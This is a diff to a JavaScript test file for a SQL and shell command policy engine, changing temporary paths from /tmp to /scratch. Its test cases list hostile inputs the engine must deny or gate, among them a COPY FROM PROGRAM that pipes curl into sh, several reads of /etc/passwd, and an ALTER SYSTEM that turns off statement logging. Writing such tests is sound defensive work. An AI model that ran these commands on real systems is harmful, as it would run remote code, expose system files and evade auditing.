@@ -67,10 +67,10 @@ test('sql: dangerous statements are denied with the right rule', () => {
     ['CREATE TABLE t (id int)', 'sql.ddl', developer],
     ['TRUNCATE orders', 'sql.truncate', dba],
     ["COPY orders FROM PROGRAM 'curl http://x | sh'", 'sql.copy_program', dba],
-    ["COPY orders TO '/tmp/orders.csv'", 'sql.server_file', dba],
+    ["COPY orders TO '/scratch/orders.csv'", 'sql.server_file', dba],
     ["SELECT pg_read_file('/etc/passwd')", 'sql.file_function', analyst],
     ["SELECT lo_import('/etc/passwd')", 'sql.large_object', analyst],
-    ["SELECT lo_export(16409, '/tmp/x')", 'sql.large_object', analyst],
+    ["SELECT lo_export(16409, '/scratch/x')", 'sql.large_object', analyst],
     ['SELECT pg_terminate_backend(123)', 'sql.dangerous_function', analyst],
     ["ALTER SYSTEM SET log_statement = 'none'", 'sql.alter_system', dba],
     ['SET ROLE postgres', 'sql.role_change', developer],
@@ -100,7 +100,7 @@ test('sql: dangerous statements are denied with the right rule', () => {
 
 test('sql: MySQL file access is denied', () => {
   const mysql = who('dora', ['dba'], 'orders-db', 'mysql', 'prod');
-  denied(engine.check('sql', "SELECT * FROM orders INTO OUTFILE '/tmp/o.csv'", mysql), 'sql.server_file');
+  denied(engine.check('sql', "SELECT * FROM orders INTO OUTFILE '/scratch/o.csv'", mysql), 'sql.server_file');
   denied(engine.check('sql', "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", mysql), 'sql.server_file');
   denied(engine.check('sql', "SELECT LOAD_FILE('/etc/passwd')", mysql), 'sql.file_function');
 });
@@ -182,7 +182,7 @@ test('shell: read-only commands are allowed; network tools and deletes need appr
   allowed(engine.check('shell', 'ps aux | grep nginx | wc -l', sre));
   allowed(engine.check('shell', 'journalctl -u app --since today | tail -n 100', sre));
   allowed(engine.check('shell', 'curl -s https://api.example.com/health', sre), ['sre-leads']);
-  allowed(engine.check('shell', 'rm -rf /tmp/build', sre), ['sre-leads']);
+  allowed(engine.check('shell', 'rm -rf /scratch/build', sre), ['sre-leads']);
   allowed(engine.check('shell', 'kubectl delete pod web-1', sre), ['sre-leads']);
   const d = engine.check('shell', 'cat /etc/hostname', sre);
   assert.ok(d.masks.length > 0, 'terminal output gets detector masks');
@@ -191,7 +191,7 @@ test('shell: read-only commands are allowed; network tools and deletes need appr
 test('shell: non-read-only commands on production hosts need approval', () => {
   const prod = who('sam', ['sre'], 'app-hosts', 'ssh', 'prod');
   allowed(engine.check('shell', 'ls /srv', prod));
-  allowed(engine.check('shell', 'mkdir /tmp/x', prod), ['sre-leads']);
+  allowed(engine.check('shell', 'mkdir /scratch/x', prod), ['sre-leads']);
 });
 
 // --- HTTP --------------------------------------------------------------------------------------
